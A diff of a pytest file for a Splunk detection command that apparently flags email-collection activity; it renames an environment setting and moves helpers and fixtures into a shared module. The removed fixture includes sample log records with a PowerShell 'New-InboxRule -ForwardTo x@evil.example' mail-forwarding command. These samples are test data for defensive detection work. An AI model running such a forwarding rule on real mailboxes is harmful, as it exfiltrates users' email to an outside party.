@@ -2,7 +2,7 @@
 real protocol: the same events in, the same events, findings and messages out.
 
 T1114_RECORD_PATH=splunklib switches the command to splunklib's reader and writer,
-T1114_RECORD_PATH=lines to chunk_csv's plain path (every row parsed by the csv module) instead of
+T1114_RECORD_PATH=plain to chunk_csv's plain path (every row parsed by the csv module) instead of
 its block path. Runs under whichever Python runs the tests; tox runs it on 3.9 and 3.13.
 """
 
@@ -12,25 +12,13 @@ import shutil
 import pytest
 
 from t1114_protocol.chunk_csv import decode_multivalue, encode_value
-from tests.test_protocol import rule_event_records
 from tools.bench import make_records
 from tools.chunked_client import ChunkedCommand, decode_records, encode_records, run, script_path
+from tests.helpers import AWKWARD_RECORDS, comparable, rule_event_records
+from tests.conftest import missing_shared_data
 
 SPLUNKLIB = dict(os.environ, T1114_RECORD_PATH="splunklib")
-LINES = dict(os.environ, T1114_RECORD_PATH="lines")
-
-
-def comparable(records):
-    """Records as Splunk reads them: a multivalue field of one value is that value.
-
-    (splunklib writes a one-item list as a plain value; the fast path passes the input's
-    `$a$` cell through untouched. splunkd reads both as the one value `a`.)
-    """
-    out = []
-    for record in records:
-        out.append({name: value[0] if isinstance(value, list) and len(value) == 1 else value
-                    for name, value in record.items()})
-    return out
+LINES = dict(os.environ, T1114_RECORD_PATH="plain")
 
 
 def both_paths(app_dir, records, args, chunk_size):
@@ -72,7 +60,7 @@ def test_real_shaped_mixes_give_the_same_output_on_both_paths(built_app, mix):
     multivalue ones, CIM aliases; findings written as their input line plus the t1114 cells."""
     from tools import real_streams
     if not real_streams.available():
-        pytest.skip("the public records in ../shared/datasets are not here")
+        missing_shared_data("the public records in ../shared/datasets are not here")
     records = real_streams.make_mix(mix, 5, 1200)
     for args in (["mode=all"], [], ["mode=all", "expand=true"]):
         fast, plain = both_paths(built_app, records, args, chunk_size=500)
@@ -90,7 +78,7 @@ def test_block_and_plain_rows_give_the_same_bytes_through_the_protocol(built_app
     if mix == "light":
         records = make_records(seed=9, size=2100, positive_rate=0.05)
     elif not real_streams.available():
-        pytest.skip("the public records in ../shared/datasets are not here")
+        missing_shared_data("the public records in ../shared/datasets are not here")
     else:
         records = real_streams.make_mix(mix, 6, 2100)
     bodies = [encode_records(records[start:start + 700]) for start in range(0, len(records), 700)]
@@ -135,19 +123,6 @@ def test_events_that_already_carry_output_fields(built_app):
     for args in (["mode=all"], [], ["mode=all", "expand=true"]):
         fast, plain = both_paths(built_app, first, args, chunk_size=11)
         assert_same(fast, plain)
-
-
-# Quotes, commas, CR/LF, `$` and empty multivalue items, non-ASCII, a U+2028: also what
-# tests/test_block_path.py holds its two record forms to.
-AWKWARD_RECORDS = [
-    {"sourcetype": "o365:management:activity", "Operation": "New-InboxRule", "Workload": "Exchange",
-     "UserId": "a@contoso.com", "Parameters{}.Name": ["Name", "ForwardTo", "Note"],
-     "Parameters{}.Value": ["r$1", "x@evil.example", 'say "hi",\r\nthen $$ ;$a$;'],
-     "odd": 'comma, "quote"\nnewline', "unicode": "\u00e9\u4e2d\U0001f600", "dollar": ["$", "$$", ""]},
-    {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": ["m@contoso.com", "n@contoso.com"],
-     "ScriptBlockText": "New-InboxRule -Name a -ForwardTo x@evil.example\n\nGet-Date", "odd": ""},
-    {"_raw": "", "odd": "\r", "unicode": "\u2028line separator"},
-]
 
 
 def test_awkward_values_and_columns(built_app):
